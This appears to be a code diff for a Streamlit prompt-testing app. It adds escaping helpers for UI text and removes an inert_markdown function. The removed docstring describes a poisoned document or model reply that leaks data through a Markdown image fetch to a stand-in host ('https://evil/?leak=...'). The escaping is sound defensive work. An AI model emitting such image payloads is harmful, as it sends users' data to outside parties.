@@ -7,9 +7,11 @@ import streamlit as st
 from lib.core import PromptLabError
 from lib.llm import ModelStatus, provider_label
 from lib.ui.app import statuses
+from lib.ui.text import md, plain
 
 
 def model_label(status: ModelStatus) -> str:
+    """An option of the model select box (options are shown as plain text)."""
     m = status.model
     mark = "" if status.available else "  (unavailable)"
     return f"{provider_label(m.provider)} · {m.label}{mark}"
@@ -23,18 +25,13 @@ def model_picker(key: str, *, label: str = "Model", default: str | None = None) 
     if st.session_state.get(key) not in (None, *keys):
         del st.session_state[key]  # a model that left the catalog
     index = keys.index(default) if default in keys else 0
-    choice = by_key[st.selectbox(label, keys, index=index, key=key,
+    choice = by_key[st.selectbox(plain(label), keys, index=index, key=key,
                                  format_func=lambda k: model_label(by_key[k]))]
     if not choice.available:
-        st.warning(f"{choice.model.label} is unavailable. {choice.reason}")
+        st.warning(md("{} is unavailable. {}", choice.model.label, choice.reason))
     return choice
 
 
-def inert_markdown(text: str) -> str:
-    """Model output and document text as Markdown, minus images: a reply (or a poisoned
-    document) could otherwise make the browser fetch ![](https://evil/?leak=...)."""
-    return text.replace("![", "!\\[")
-
-
 def show_error(error: PromptLabError) -> None:
-    st.error(str(error), icon=":material/error:")
+    """An error of ours in plain words (its text may quote a file name, a provider's reply)."""
+    st.error(plain(error), icon=":material/error:")
